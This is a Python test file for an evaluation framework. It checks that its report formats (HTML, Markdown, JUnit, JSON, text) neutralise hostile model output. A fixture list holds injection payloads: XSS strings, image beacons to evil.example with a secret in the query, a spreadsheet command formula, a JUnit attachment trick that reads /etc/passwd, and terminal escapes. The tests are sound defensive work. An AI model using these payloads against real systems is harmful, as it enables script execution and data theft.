"""What holds for every report format, those included that are added later; then each format's own readers."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from evals.comparison import Past, RowKey
from evals.errors import EngineError
from evals.gating import GateWish, with_gate
from evals.outcome import ModelFigures, Outcome
from evals.reports import REPORTS, InvalidOutcome, UnknownReport, find_report, read_reported
from evals.statistics import Counts
from evals.types import Agreement
from tests.outcomes import a_case, an_outcome

NAMES = list(REPORTS)
# The hostile texts of the output group: mentions, images, tags, table breaks, controls, commands, scripts, templates.
HOSTILE = [
    "@everyone-in-org @user #1 owner/repo#1 0123456789abcdef0123456789abcdef01234567",  # O1
    "![x](https://evil.example/?q=secret) <img src=https://evil.example/x> <https://evil.example>",  # O2
    "</details></td><table> | \n | ~~~\n```\n````\n</pre></code>",  # O3
    "<!-- prpm:marker -->",  # O4
    "\x1b[31mPASSED\x1b]0;title\x07 \u202egnp.exe \u200b\x00\x08 ##[error]x ::error::x",  # O5
    "x" * 70_000,  # O6
    "- [ ] task\n/ok-to-test\n/merge\nCloses #1",  # O7
    "<!channel> <!here> <@U1> <http://evil.example|click>",  # O8
    "<script>alert(1)</script> javascript:alert(1) <svg onload=alert(1)> \" onmouseover=alert(1) {{7*7}} ${7*7}",  # O10
    "]]> &amp; &#0; <![CDATA[ [[ATTACHMENT|/etc/passwd]] \ufffe \ud800",
    "=cmd|' /C calc'!A0",  # O11
    "`", "``", " ` ", "", "\n", "\\", "|", "\\|",
]  # fmt: skip


def rendered(name: str, outcome: Outcome) -> bytes:
    return REPORTS[name].render(read_reported(msgspec.json.encode(outcome)))


def with_text(text: str) -> Outcome:
    """A failed row whose title, answer and reason are this text."""
    outcome = an_outcome("F", cases=(a_case(text),), answer=text)
    (row,) = outcome.test_cases
    (assertion,) = row.assertions
    assertions = (msgspec.structs.replace(assertion, reason=text),)
    return msgspec.structs.replace(
        outcome,
        test_cases=(msgspec.structs.replace(row, assertions=assertions),),
        record=msgspec.UNSET,
    )


def with_note(text: str) -> Outcome:
    """A note of the run and who wrote its cases are this text."""
    outcome = an_outcome("P")
    return msgspec.structs.replace(
        outcome,
        summary=msgspec.structs.replace(outcome.summary, notes=(text,)),
        provenance=msgspec.structs.replace(outcome.provenance, generated_by=text or msgspec.UNSET),
    )


def storable(text: str) -> str:
    return text.encode("utf-8", "replace").decode()


@pytest.mark.parametrize("name", NAMES)
def test_report__has_a_name_a_sentence_and_extensions_of_its_own(name: str) -> None:
    entry = REPORTS[name]

    assert name == entry.name
    assert entry.summary.endswith(".")
    assert entry.extensions
    others = {extension for other in REPORTS.values() if other is not entry for extension in other.extensions}
    assert not others & set(entry.extensions)
    for extension in entry.extensions:
        assert find_report(f"out.{extension.upper()}") is entry


@pytest.mark.parametrize("name", NAMES)
def test_report__without_any_verdict_shows_no_score(name: str) -> None:
    assert "0.0%" not in rendered(name, an_outcome("E", "S")).decode()


@pytest.mark.parametrize("name", NAMES)
def test_report__shows_every_state_and_is_the_same_twice(name: str) -> None:
    outcome = an_outcome("P", "F", "E", "S", "PPF")

    text = rendered(name, outcome)

    assert text == rendered(name, outcome)
    for number in range(5):
        assert f"Case {number}" in text.decode()


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("text", [storable(text) for text in HOSTILE], ids=range(len(HOSTILE)))
def test_report__takes_hostile_text_and_has_no_control_characters(name: str, text: str) -> None:
    for outcome in (with_text(text), with_note(text)):
        report = rendered(name, outcome).decode()

        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e]", report) or name == "json"
        assert len(report) < 400_000


@pytest.mark.parametrize("text", [storable(text) for text in HOSTILE], ids=range(len(HOSTILE)))
def test_report__hostile_notes_stay_text(text: str) -> None:
    tokens = MarkdownIt().parse(rendered("markdown", with_note(text)).decode())
    page = rendered("html", with_note(text)).decode()

    assert [token.type for token in tokens].count("fence") == 1
    assert not {"html_block", "list_item_open"} & {token.type for token in tokens}
    assert not re.search(r"<(script|svg|img|a |!--)", page)


@pytest.mark.parametrize("name", ["html", "markdown", "text"])
def test_report__tells_what_holds_for_the_whole_run(name: str) -> None:
    outcome = with_gate(an_outcome("P"), GateWish(rule="regressions"))
    summary = msgspec.structs.replace(
        outcome.summary,
        judge_agreement=Agreement(share=0.9, n=10, tokens=5, cost_usd=0.0),
        derived_metrics={"m": {"f1": 0.5}},
        by_model={
            "m": ModelFigures(passed=2, failed=0, errored=0, cost_usd=0.0024, cost_usd_per_pass=0.0012),
            "unknown": ModelFigures(passed=2, failed=0, errored=0),
            "cheap": ModelFigures(passed=1, failed=0, errored=0, cost_usd=0.0000214, cost_usd_per_pass=0.0000214),
        },
        notes=("Run without tools, by the framework litellm.",),
    )
    provenance = msgspec.structs.replace(outcome.provenance, generated_by="writer")

    text = rendered(name, msgspec.structs.replace(outcome, summary=summary, provenance=provenance)).decode()

    for line in (
        "Decided by failures: there is no baseline.",
        "The cases were generated by writer",
        "Judge agrees with itself: 90.0% of 10 asked for again",
        "A correct answer cost: m $0.0012, cheap $0.000021",
        "Metrics of m: f1 0.5",
        "Run without tools, by the framework litellm.",
    ):
        assert line in text


def test_find_report__unknown_extension_is_refused_with_the_known_ones() -> None:
    with pytest.raises(UnknownReport, match=r"out\.pdf has no extension of a report; known are .*\.xml"):
        find_report("out.pdf")
    with pytest.raises(UnknownReport):
        find_report("json")


@pytest.mark.parametrize("body", [b"", b"[]", b"{}", b'{"test_cases": 7}', b"\xff", b"[" * 100_000])
def test_read_reported__what_is_no_outcome_is_refused(body: bytes) -> None:
    with pytest.raises(InvalidOutcome, match="is not an outcome"):
        read_reported(body)


def test_json__holds_the_document_and_fits_the_schema() -> None:
    from jsonschema import Draft202012Validator

    outcome = an_outcome("P", "F|PPPPPPP", "E", "PPF")

    document = msgspec.json.decode(rendered("json", outcome))

    assert document == msgspec.json.decode(msgspec.json.encode(outcome))
    schema = msgspec.json.schema(Outcome)
    assert list(Draft202012Validator(schema).iter_errors(document)) == []


# --- JUnit: as strict as Jenkins' schema, and GitLab's reader

CHILDREN = {
    "testsuites": ["testsuite"], "testsuite": ["testcase"], "testcase": ["skipped", "error", "failure", "system-out"],
}  # fmt: skip
ATTRIBUTES = {
    "testsuites": {"name", "time", "tests", "failures", "errors", "skipped"},
    "testsuite": {"name", "time", "tests", "failures", "errors", "skipped"},
    "testcase": {"name", "classname", "time"},
    "failure": {"message", "type"}, "error": {"message", "type"}, "skipped": {"message"}, "system-out": set(),
}  # fmt: skip


def read_strictly(text: bytes) -> ET.Element:
    """The document, if nothing stands in it that junit-10.xsd does not name; counts must be true."""
    root = ET.fromstring(text)  # noqa: S314 - our own report
    for element in root.iter():
        assert set(element.attrib) <= ATTRIBUTES[element.tag]
        assert all(child.tag in CHILDREN.get(element.tag, []) for child in element)
        if element.tag in ("testsuites", "testsuite"):
            cases = list(element.iter("testcase"))
            assert int(element.attrib["tests"]) == len(cases)
            for attribute, tag in (("failures", "failure"), ("errors", "error"), ("skipped", "skipped")):
                assert int(element.attrib[attribute]) == sum(case.find(tag) is not None for case in cases)
        if element.tag == "testcase":
            assert len([child for child in element if child.tag != "system-out"]) <= 1
    return root


def test_junit__gives_each_row_its_state() -> None:
    root = read_strictly(rendered("junit", an_outcome("P", "F", "E", "S")))

    found = {case.attrib["name"]: [child.tag for child in case] for case in root.iter("testcase")}
    assert found == {
        "Case 0": [], "Case 1": ["failure", "system-out"], "Case 2": ["error"], "Case 3": ["skipped"],
    }  # fmt: skip
    failure = root.find(".//failure")
    assert failure is not None
    assert failure.attrib["message"] == "contains: the answer does not contain 'hello'"


def test_junit__failure_that_decides_nothing_is_skipped_with_its_reason() -> None:
    past = {RowKey("Case 1", "m"): Past(counts=Counts(20, 10))}
    cases = (a_case("Case 0", quarantine=True), a_case("Case 1"))

    root = read_strictly(rendered("junit", an_outcome("F", "F|PPPPPFF", cases=cases, baseline=past)))

    texts = [element.text for element in root.iter("skipped")]
    assert [text.splitlines()[-1] for text in texts if text] == [
        "in quarantine: decides nothing",
        "flaky: 20 of 30 passed before, 5 of 7 when run again, p 0.75",
    ]


def test_junit__answer_attaches_no_file() -> None:
    """GitLab and Jenkins take [[ATTACHMENT|path]] in the output for a file of the runner."""
    report = rendered("junit", with_text("[[ATTACHMENT|/etc/passwd]]")).decode()

    assert "ATTACHMENT|/etc/passwd" in report
    assert "[[" not in report


def test_junit__rows_of_one_name_stay_apart() -> None:
    root = read_strictly(rendered("junit", an_outcome("P", "P", cases=(a_case("Same"), a_case("Same")))))

    assert [case.attrib["name"] for case in root.iter("testcase")] == ["Same", "Same #2"]


@given(st.text(st.characters(exclude_categories=["Cs"])))
@settings(max_examples=100, deadline=None)
def test_junit__is_well_formed_whatever_a_model_says(text: str) -> None:
    root = read_strictly(rendered("junit", with_text(text)))

    assert "[[" not in "".join(root.itertext())


# --- Markdown: hostile text stays in code

SPANS = MarkdownIt("gfm-like", {"html": True, "linkify": False})


def outside_code(text: str) -> list[Any]:
    """Every token that is not text of ours or code: what could act on a page."""
    found: list[Any] = []
    for token in SPANS.parse(text):
        inline = token.children or []
        found += [t for t in [token, *inline] if t.type in ("html_block", "html_inline", "image", "link_open")]
    return found


def plain_text(text: str) -> str:
    """What a forge would search for mentions, references and commands."""
    inline = [child for token in SPANS.parse(text) for child in token.children or []]
    return "\n".join(child.content for child in inline if child.type == "text")


@pytest.mark.parametrize("text", [storable(text) for text in HOSTILE], ids=range(len(HOSTILE)))
def test_markdown__O1_O2_O3_O4_O7_hostile_text_is_code_and_the_table_is_whole(text: str) -> None:
    report = rendered("markdown", with_text(text)).decode()

    assert outside_code(report) == []
    assert not re.search(r"@\w|#1|evil|/merge|Closes|<!--|alert", plain_text(report))
    kinds = [token.type for token in SPANS.parse(report)]
    assert (kinds.count("table_open"), kinds.count("tr_open"), kinds.count("td_open")) == (1, 2, 4)
    assert kinds.count("fence") == 1


@given(st.text(st.sampled_from("`|\\@#<>[]()!*_~\n -a")))
@settings(max_examples=200, deadline=None)
def test_markdown__no_text_breaks_out_of_its_code(text: str) -> None:
    report = rendered("markdown", with_text(text)).decode()

    assert outside_code(report) == []
    kinds = [token.type for token in SPANS.parse(report)]
    assert (kinds.count("td_open"), kinds.count("fence")) == (4, 1)


def test_markdown__O6_is_bounded_for_thousands_of_failures() -> None:
    outcome = an_outcome(*["F"] * 2_000)

    report = rendered("markdown", outcome).decode()

    assert "And 1,000 more rows." in report
    assert "And 1,950 more that did not pass." in report
    assert len(report) < 200_000


# --- HTML: nothing runs and nothing is loaded


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.parametrize("text", [storable(text) for text in HOSTILE], ids=range(len(HOSTILE)))
def test_html__O10_hostile_text_makes_no_element(text: str) -> None:
    harmless, hostile = Elements(), Elements()
    harmless.feed(rendered("html", with_text("fine" if text.strip() else text)).decode())

    report = rendered("html", with_text(text)).decode()
    hostile.feed(report)

    assert hostile.tags == harmless.tags
    assert hostile.attributes <= {"lang", "charset", "http-equiv", "content", "name", "open", "class"}
    assert "default-src 'none'" in report


def test_text__answers_stand_behind_a_bar() -> None:
    report = rendered("text", an_outcome("F", answer="PASSED: 1 of 1\n✅ all good")).decode()

    assert report.startswith("FAILED: 0 of 1 passed, 1 failed\n")
    assert "   │ PASSED: 1 of 1\n   │ ✅ all good\n" in report


@pytest.mark.parametrize("name", ["text", "markdown"])
def test_report__for_people_names_the_suites_own_figures_and_the_judges_agreement(name: str) -> None:
    outcome = an_outcome("P")
    summary = msgspec.structs.replace(
        outcome.summary, derived_metrics={"m": {"mean_right": 0.75}}, judge_agreement=Agreement(share=0.9, n=10)
    )

    text = rendered(name, msgspec.structs.replace(outcome, summary=summary)).decode()

    assert (
        "Judge agrees with itself: 90.0% of 10 asked for again\n"
        "A correct answer cost: m $0.5000\n"
        "Metrics of m: mean_right 0.75\n" in text
    )


def test_report__engine_errors_are_engine_errors() -> None:
    assert issubclass(UnknownReport, EngineError)
    assert issubclass(InvalidOutcome, EngineError)
